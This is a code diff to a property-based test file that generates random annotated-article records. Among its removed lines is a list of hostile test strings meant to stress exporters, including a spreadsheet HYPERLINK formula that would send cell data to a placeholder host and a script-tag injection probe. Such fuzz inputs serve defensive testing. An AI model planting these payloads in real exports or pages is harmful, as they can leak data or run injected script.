@@ -2,14 +2,13 @@ import fc from 'fast-check';
 import {
   type ArticleRecord,
   type ArticleWithNotes,
-  type ChainLink,
   GAP_IDS,
   type Gap,
   GENRES,
   type HumanNote,
   JUDGEMENTS,
+  layerId,
   type MachineNote,
-  NAMED_AS,
   PARAGRAPH_KINDS,
   type Paragraph,
   SEVERITIES,
@@ -17,86 +16,11 @@ import {
   type Span,
   STATEMENT_TYPES,
   type Statement,
+  type StatementLayer,
 } from '../src/model/index.ts';
 import { hashText } from '../src/text/hash.ts';
-
-/** Texts that have broken exporters: formulas, markup, separators, controls, scripts of many directions and planes. */
-export const HOSTILE = [
-  '=HYPERLINK("http://x.example/?"&A1,"open")',
-  '+1',
-  '-2+3',
-  '@SUM(A1)',
-  '\tindented',
-  '\rreturned',
-  "'=already guarded",
-  "''",
-  '<script>alert(1)</script>',
-  '"quoted", with commas\r\nand lines\n',
-  ']]>&amp;&#0;',
-  '{"id":1}\n{"id":2}',
-  '__proto__',
-  'constructor',
-  '\u0000\u0007\u001b[31m',
-  'line\u2028separator\u2029and\u0085next',
-  'مرحبا بالعالم',
-  '\u202Eright to left\u202C',
-  '👩🏾‍⚖️ 𠮷野家 e\u0301',
-  '＝wide formula',
-  '\uFEFFmarked',
-  '',
-  ' ',
-] as const;
-
-export const hostileText = fc.oneof(
-  fc.constantFrom(...HOSTILE),
-  fc.string({ unit: 'grapheme', maxLength: 40 }),
-  fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((two) => two.join('')),
-);
-
-const orNull = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: null });
-const time = fc.integer({ min: 0, max: 4102444800000 });
-const confidence = fc.integer({ min: 0, max: 100 }).map((percent) => percent / 100);
-const few = <T>(value: fc.Arbitrary<T>) => fc.array(value, { maxLength: 3 });
-
-/** Some fields always, each of the others now and then. */
-const some = <T extends object>(
-  fields: { [K in keyof Required<T>]: fc.Arbitrary<T[K]> },
-  required: (keyof T)[],
-): fc.Arbitrary<T> => fc.record(fields, { requiredKeys: required as never }) as unknown as fc.Arbitrary<T>;
-
-/** Spans between the text's characters, so that none cuts a character of two units in half. */
-const spanIn = (text: string): fc.Arbitrary<Span> => {
-  const offsets = [0];
-  for (const character of text) offsets.push(offsets.at(-1)! + character.length);
-  return fc
-    .tuple(fc.constantFrom(...offsets), fc.constantFrom(...offsets))
-    .map(([one, other]) => [Math.min(one, other), Math.max(one, other)]);
-};
-
-const namedAs = fc.constantFrom(...NAMED_AS);
-
-const chainLink = (span: fc.Arbitrary<Span>) =>
-  some<ChainLink>(
-    {
-      role: fc.constantFrom('publisher', 'intermediary', 'speaker'),
-      surface: orNull(hostileText),
-      span: orNull(span),
-      resolvesTo: hostileText,
-      sourceId: hostileText,
-      namedAs,
-      candidates: few(hostileText),
-      medium: orNull(hostileText),
-      date: orNull(hostileText),
-      place: orNull(hostileText),
-      occasion: orNull(hostileText),
-      verb: orNull(hostileText),
-      verbSpan: span,
-      url: orNull(hostileText),
-      explicit: fc.constantFrom('in-sentence', 'carried-over', 'pronoun', 'inferred'),
-      confidence,
-    },
-    ['role', 'surface', 'span', 'namedAs', 'explicit'],
-  );
+import { chainLink, namedAs } from './arbitrary-chains.ts';
+import { confidence, few, hostileText, orNull, some, spanIn, time } from './arbitrary-text.ts';
 
 const statement = (span: fc.Arbitrary<Span>, paragraphs: number) =>
   some<Statement>(
@@ -182,14 +106,21 @@ const gap = (span: fc.Arbitrary<Span>, statementIds: string[]) =>
 
 const machineNote = (gaps: fc.Arbitrary<Gap>, articleId: string): fc.Arbitrary<MachineNote> =>
   fc
-    .tuple(gaps, fc.constantFrom(...JUDGEMENTS), time, fc.boolean())
-    .map(([found, judgement, judged, current]) => ({
+    .tuple(
+      gaps,
+      fc.constantFrom(...JUDGEMENTS),
+      time,
+      fc.boolean(),
+      fc.option(hostileText, { nil: undefined }),
+    )
+    .map(([found, judgement, judged, current, judgedBy]) => ({
       kind: 'machine',
       articleId,
       id: found.key,
       gap: found,
       judgement,
       judgedAt: judgement === 'open' ? null : judged,
+      ...(judgement !== 'open' && judgedBy !== undefined && { judgedBy }),
       current,
     }));
 
@@ -198,17 +129,66 @@ const humanNote = (
   articleId: string,
   statementIds: string[],
 ): fc.Arbitrary<HumanNote> =>
-  fc.record({
-    kind: fc.constant('human'),
-    articleId: fc.constant(articleId),
-    id: hostileText,
-    statementId: orNull(fc.constantFrom(...statementIds, 'gone')),
-    quote: hostileText,
-    anchor: orNull(span),
-    text: hostileText,
-    createdAt: time,
-    updatedAt: time,
-  });
+  some<HumanNote>(
+    {
+      kind: fc.constant('human'),
+      articleId: fc.constant(articleId),
+      id: hostileText,
+      statementId: orNull(fc.constantFrom(...statementIds, 'gone')),
+      quote: hostileText,
+      anchor: orNull(span),
+      followed: fc.constant(undefined as never),
+      text: hostileText,
+      tags: few(hostileText),
+      writtenBy: hostileText,
+      createdAt: time,
+      updatedAt: time,
+    },
+    ['kind', 'articleId', 'id', 'statementId', 'quote', 'anchor', 'text', 'createdAt', 'updatedAt'],
+  ).map(({ followed: _, ...note }) => note);
+
+const layer = (
+  span: fc.Arbitrary<Span>,
+  articleId: string,
+  statementIds: string[],
+): fc.Arbitrary<StatementLayer> =>
+  fc
+    .constantFrom(...statementIds, 'missed')
+    .chain((statementId) =>
+      some<StatementLayer>(
+        {
+          kind: fc.constant('layer'),
+          articleId: fc.constant(articleId),
+          id: fc.constant(layerId(statementId)),
+          statementId: fc.constant(statementId),
+          added: fc.constant(statementId === 'missed'),
+          speaker: orNull(fc.record({ name: orNull(hostileText), namedAs })),
+          content: orNull(few(span)),
+          tags: few(hostileText),
+          quote: hostileText,
+          anchor: span,
+          followed: fc.constant(undefined as never),
+          writtenBy: hostileText,
+          createdAt: time,
+          updatedAt: time,
+        },
+        [
+          'kind',
+          'articleId',
+          'id',
+          'statementId',
+          'added',
+          'speaker',
+          'content',
+          'tags',
+          'quote',
+          'anchor',
+          'createdAt',
+          'updatedAt',
+        ],
+      ),
+    )
+    .map(({ followed: _, ...correction }) => correction);
 
 const source = (span: fc.Arbitrary<Span>) =>
   some<Source>(
@@ -283,8 +263,14 @@ export const articleWithNotes: fc.Arbitrary<ArticleWithNotes> = fc
             .tuple(
               fc.uniqueArray(machineNote(gap(span, ids), id), { maxLength: 4, selector: (it) => it.id }),
               fc.uniqueArray(humanNote(span, id, ids), { maxLength: 3, selector: (it) => it.id }),
+              fc.uniqueArray(layer(span, id, ids), { maxLength: 2, selector: (it) => it.id }),
             )
-            .map(([machine, human]) => [...machine, ...human]),
+            // One store keeps both by their ids.
+            .map(([machine, human, layers]) => [
+              ...machine,
+              ...human.filter(({ id: own }) => machine.every((note) => note.id !== own)),
+              ...layers,
+            ]),
         });
       });
   });
